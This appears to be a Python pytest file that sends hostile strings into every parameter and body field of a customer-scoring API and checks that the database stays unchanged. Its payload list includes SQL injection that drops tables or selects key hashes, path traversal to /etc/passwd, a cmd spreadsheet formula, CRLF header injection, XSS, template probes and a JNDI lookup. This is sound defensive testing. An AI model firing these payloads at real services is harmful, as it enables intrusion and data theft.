"""Hostile texts in every parameter and field that the OpenAPI document names."""

import copy
import json
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote

import httpx
import pytest
import sqlalchemy as sa

from serving.store import SQLiteStore
from serving.store.tables import SCORES

Request = dict[str, Any]
Attack = Callable[..., list[httpx.Response]]

_LONG = "x" * 100_000
_TEXTS = {
    "over-long": _LONG,
    "NUL": "C\0-1",
    "half a surrogate pair": "C-\ud800",
    "bidi controls": "C-\u202e1\u2066\u2069",
    "zero width": "\u200bC\u200d-1\ufeff",
    "SQL that ends a text": "'; DROP TABLE scores; --",
    "SQL that is always true": '" OR 1=1 UNION SELECT key_hash FROM api_keys --',
    "SQL for LIKE": "%_\\",
    "a path upwards": "../../../etc/passwd",
    "a path upwards, encoded": "..%2f..%2f..%2fetc%2fpasswd",
    "a path of Windows": "..\\..\\windows\\win.ini",
    "a formula": "=cmd|'/c calc'!A1",
    "a header": "C-1\r\nSet-Cookie: own=1",
    "a script": "<script>alert(1)</script>",
    "a template": "{{7*7}}${7*7}#{7*7}%s%n",
    "a lookup": "${jndi:ldap://192.0.2.1/a}",
}
# No field of the service takes these; the others it may take as what they are: texts.
_NEVER = ("over-long", "NUL", "half a surrogate pair")
_DAY = "1998-06-01"
_EVENTS: tuple[dict[str, Any], ...] = (
    {
        "type": "order",
        "order_id": "o-1",
        "ordered_at": _DAY,
        "currency": "USD",
        "lines": [{"revenue": 1.5, "product_id": "p", "category": "k", "channel": "web"}],
    },
    {"type": "invoice", "invoice_id": "i-1", "issued_at": _DAY, "due_at": _DAY, "amount": 1.0},
    {
        "type": "payment",
        "payment_id": "p-1",
        "invoice_id": "i-1",
        "paid_at": _DAY,
        "amount": 1.0,
    },
    {
        "type": "interaction",
        "interaction_id": "n-1",
        "contacted_at": _DAY,
        "kind": "complaint",
        "topic": "quality",
        "campaign_id": "k-1",
    },
    {
        "type": "customer",
        "name": "Ada",
        "kind": "retail",
        "region": "North",
        "owner": "Bob",
        "attributes": {"colour": "red"},
    },
)
_WHY = {"reason": "tried"}
# A body that is in order, of every operation that takes one.
_BODIES: dict[str, dict[str, Any]] = {
    "get_scores": {"customer_ids": ["0001"], "fields": ["clv"], "include": ["interval"]},
    "preview_score": {
        "events": list(_EVENTS),
        "customer_id": "0001",
        "as_of": _DAY,
        "include": ["signals"],
    },
    "post_events": {
        "events": [
            event | {"event_id": f"hostile-{n}", "customer_id": "0002"}
            for n, event in enumerate(_EVENTS)
        ]
    },
    "pin_model": _WHY | {"version": "1"},
    "unpin_model": _WHY,
    "shadow_model": _WHY | {"version": "1"},
    "unshadow_model": _WHY,
    "rollback_model": _WHY,
    "roll_back_model": _WHY,
}


def _usual(method: str, path: str, operation: dict[str, Any]) -> Request:
    """A request that is in order."""
    # Who is erased is not there to be asked about afterwards.
    who = "nobody" if method == "DELETE" else "0003"
    request: Request = {
        "method": method,
        "url": path.replace("{customer_id}", who),
        "headers": {},
        "params": {},
    }
    if "requestBody" in operation:
        request["json"] = _BODIES[operation["operationId"]]
    return request


def _with_parameter(request: Request, path: str, parameter: dict[str, Any], text: str) -> Request:
    place, name = parameter["in"], parameter["name"]
    raw = text[:60_000].encode("utf-8", errors="surrogatepass")
    if place == "path":
        return request | {"url": path.replace(f"{{{name}}}", quote(raw, safe=""))}
    if place == "query":
        return request | {"url": f"{request['url']}?{name}={quote(raw, safe='')}", "params": None}
    return request | {"headers": {name: raw}}


def _with_fields(body: Any, text: str) -> Iterator[Any]:
    """The body once for each of its texts, which is then the hostile one; and for each name."""
    for place in _places(body):
        changed = copy.deepcopy(body)
        part = changed
        for step in place[:-1]:
            part = part[step]
        part[place[-1]] = text
        yield changed
    yield body | {text: 1}


def _places(body: Any, *steps: Any) -> Iterator[tuple[Any, ...]]:
    if isinstance(body, str):
        yield steps
    parts = (
        body.items()
        if isinstance(body, dict)
        else enumerate(body)
        if isinstance(body, list)
        else ()
    )
    for step, part in parts:
        yield from _places(part, *steps, step)


def _as_json(body: Any) -> dict[str, Any]:
    return {
        "content": json.dumps(body).encode(),
        "headers": {"Content-Type": "application/json"},
        "json": None,
    }


def _attacks(
    operations: list[tuple[str, str, dict[str, Any]]], text: str
) -> Iterator[tuple[str, Request]]:
    for method, path, operation in operations:
        usual, name = _usual(method, path, operation), operation["operationId"]
        for parameter in operation.get("parameters", ()):
            where = f"{name}: {parameter['in']} {parameter['name']}"
            yield where, _with_parameter(usual, path, parameter, text)
        yield (
            f"{name}: a name in the query",
            usual | {"params": {text[:60_000].encode("utf-8", "replace"): "1"}},
        )
        for body in _with_fields(usual["json"], text) if "json" in usual else ():
            yield f"{name}: body", usual | _as_json(body)


@pytest.mark.parametrize("kind", _TEXTS)
def test_a_hostile_text_is_a_text_or_refused_in_a_sentence(
    attack: Attack, operations: Any, attacked_store: SQLiteStore, kind: str
) -> None:
    before = _tables(attacked_store)
    wheres, requests = zip(*_attacks(operations, _TEXTS[kind]), strict=True)

    for where, answer in zip(wheres, attack(list(requests)), strict=True):
        if kind in _NEVER and "body" in where:
            # Nobody's id has a NUL in it: a batch names it among the missing.
            is_missing = kind == "NUL" and answer.json().get("missing") == [_TEXTS["NUL"]]
            assert is_missing or answer.status_code in {400, 422}, (where, answer.text[:500])

    assert _tables(attacked_store) == before


def _tables(store: SQLiteStore) -> tuple[set[str], int]:
    with store.reading() as connection:
        n_scores = connection.execute(sa.select(sa.func.count()).select_from(SCORES)).scalar_one()
        return set(sa.inspect(connection).get_table_names()), n_scores
